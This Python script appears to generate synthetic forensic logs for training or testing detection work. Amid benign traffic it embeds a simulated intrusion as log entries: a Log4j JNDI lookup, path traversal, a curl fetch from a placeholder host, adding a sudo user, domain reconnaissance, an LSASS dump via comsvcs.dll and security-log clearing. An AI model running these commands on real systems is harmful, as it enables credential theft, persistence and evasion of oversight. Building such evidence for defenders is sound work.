#!/usr/bin/env python3
"""Makes examples/evidence: a small, invented intrusion inside ordinary noise. Always the same bytes.

An address scans a wiki, sends a Log4j lookup and a Confluence-style expression, then uses a script in an upload folder; on the
server the web server's account runs commands; on Windows a web server starts a shell, looks around, dumps LSASS and clears the log;
another address guesses an SSH password. Nothing in it works as an exploit. Addresses are from the documentation ranges.
"""
import gzip
import json
import os
import random
import time

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "evidence")
START = 1720396800  # 2024-07-08T00:00:00Z
rng = random.Random(20240709)


def clf(t):
    return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))


def iso(t):
    return time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(t))


def access_log():
    agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
              "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
              "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"]
    pages = ["/", "/wiki/Home", "/wiki/Minutes", "/css/site.css", "/images/logo.png", "/search?q=harbour", "/login", "/wiki/Tides"]
    lines = []
    for _ in range(600):
        t = START + rng.randrange(86400)
        client = "198.51.100.%d" % rng.randrange(1, 60)
        page = rng.choice(pages)
        lines.append((t, client, "GET " + page, 200 if page != "/login" else 302, rng.randrange(300, 20000), "-", rng.choice(agents)))
    evil, t = "203.0.113.77", START + 36000
    probes = ["/.git/config", "/manager/html", "/solr/admin", "/setup/setupadministrator.action"]
    for path in probes:
        lines.append((t, evil, "GET " + path, 404, 153, "-", "curl/8.5.0"))
        t += 2
    lines.append((t, evil, "GET /search?q=${jndi:ldap://198.51.100.250/x}", 200, 512, "-", "curl/8.5.0"))
    lines.append((t + 9, evil, "GET /%24%7B%28%23inert%3D%22example%22%29%7D/", 302, 0, "-", "curl/8.5.0"))
    lines.append((t + 30, evil, "GET /static/..%2f..%2f..%2fetc%2fpasswd", 403, 199, "-", "curl/8.5.0"))
    for i in range(8):
        lines.append((t + 300 + 41 * i, evil, "POST /uploads/thumb.php", 200, 90 + 37 * i * i, "-", "python-requests/2.31"))
    lines.sort(key=lambda x: x[0])
    with open(os.path.join(HERE, "web", "access.log"), "w", newline="\n") as f:
        for t, client, request, status, size, referer, agent in lines:
            f.write('%s - - [%s] "%s HTTP/1.1" %d %d "%s" "%s"\n' % (client, clf(t), request, status, size, referer, agent))


def auth_log():
    lines, t = [], START + 50000
    for i in range(24):
        lines.append((START + 3600 * i + rng.randrange(3000), "sshd[%d]: Accepted publickey for deploy from 192.0.2.10 port %d ssh2: ED25519 SHA256:inert" % (2000 + i, 40000 + i)))
        lines.append((START + 3600 * i + 17, "CRON[%d]: (root) CMD (run-parts /etc/cron.hourly)" % (3000 + i)))
    for i in range(14):
        lines.append((t + 6 * i, "sshd[5100]: Failed password for admin from 203.0.113.99 port %d ssh2" % (52000 + i)))
    lines.append((t + 100, "sshd[5101]: Accepted password for admin from 203.0.113.99 port 52100 ssh2"))
    lines.sort()
    with open(os.path.join(HERE, "linux", "auth.log"), "w", newline="\n") as f:
        for t, text in lines:
            f.write(time.strftime("%Y-%m-%dT%H:%M:%S.000000+00:00", time.gmtime(t)) + " wiki01 " + text + "\n")


def audit_log():
    serial, out = 4000, []

    def run(t, uid, exe, argv):
        nonlocal serial
        serial += 1
        name = {33: "www-data", 0: "root"}[uid]
        stamp = "audit(%d.123:%d)" % (t, serial)
        args = " ".join('a%d="%s"' % (i, a) if " " not in a else "a%d=%s" % (i, a.encode().hex().upper()) for i, a in enumerate(argv))
        out.append('type=SYSCALL msg=%s: arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=%d auid=4294967295 uid=%d gid=%d euid=%d tty=(none) ses=4294967295 comm="%s" exe="%s" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="unset" UID="%s" GID="%s" EUID="%s"'
                   % (stamp, 10000 + serial, uid, uid, uid, os.path.basename(exe), exe, name, name, name))
        out.append("type=EXECVE msg=%s: argc=%d %s" % (stamp, len(argv), args))
        out.append('type=CWD msg=%s: cwd="/var/www/html"' % stamp)
        out.append("type=PROCTITLE msg=%s: proctitle=%s" % (stamp, "\0".join(argv).encode().hex().upper()))

    for i in range(40):
        run(START + 2000 * i, 0, "/usr/bin/run-parts", ["run-parts", "/etc/cron.hourly"])
    t = START + 36400
    for argv in (["sh", "-c", "id; uname -a"], ["id"], ["sh", "-c", "cat /etc/passwd | head"], ["curl", "-o", "/tmp/.x", "http://198.51.100.250/inert"]):
        exe = {"sh": "/usr/bin/dash", "id": "/usr/bin/id", "curl": "/usr/bin/curl"}[argv[0]]
        run(t, 33, exe, argv)
        t += 40
    run(t + 600, 0, "/usr/sbin/useradd", ["useradd", "-m", "-G", "sudo", "svc-backup"])
    with open(os.path.join(HERE, "linux", "audit.log"), "w", newline="\n") as f:
        f.write("\n".join(out) + "\n")


def windows():
    number, events = 70000, []

    def event(t, channel, provider, eid, data):
        nonlocal number
        number += 1
        events.append({"@timestamp": iso(t), "winlog": {"channel": channel, "provider_name": provider, "event_id": str(eid), "record_id": number,
                                                        "computer_name": "dmz-web02.example.org", "event_data": data}})

    def process(t, parent, image, command, user="IIS APPPOOL\\portal"):
        event(t, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
              {"UtcTime": iso(t)[:-1].replace("T", " "), "Image": image, "CommandLine": command, "ParentImage": parent, "ProcessId": str(1000 + number % 7000),
               "User": user, "IntegrityLevel": "High", "CurrentDirectory": "C:\\Windows\\System32\\"})

    s32 = "C:\\Windows\\System32\\"
    for i in range(120):
        process(START + 700 * i, s32 + "svchost.exe", s32 + rng.choice(["taskhostw.exe", "backgroundTaskHost.exe", "conhost.exe"]), "ordinary.exe", "NT AUTHORITY\\SYSTEM")
    t, w3wp, cmd = START + 60000, s32 + "inetsrv\\w3wp.exe", s32 + "cmd.exe"
    process(t, w3wp, cmd, 'cmd.exe /c "whoami"')
    for i, (image, command) in enumerate([("whoami.exe", "whoami"), ("ipconfig.exe", "ipconfig /all"), ("net.exe", "net user /domain"), ("nltest.exe", "nltest /domain_trusts"),
                                          ("net.exe", 'net group "Domain Admins" /domain')]):
        process(t + 20 + 15 * i, cmd, s32 + image, command)
    process(t + 900, cmd, s32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.bin full")
    event(t + 1800, "Security", "Microsoft-Windows-Eventlog", 1102, {"SubjectUserName": "portal", "SubjectDomainName": "EXAMPLE"})
    events.sort(key=lambda e: e["@timestamp"])
    with open(os.path.join(HERE, "windows", "winlogbeat.ndjson.gz"), "wb") as raw:
        with gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0) as f:
            for e in events:
                f.write((json.dumps(e) + "\n").encode())


for make in (access_log, auth_log, audit_log, windows):
    make()
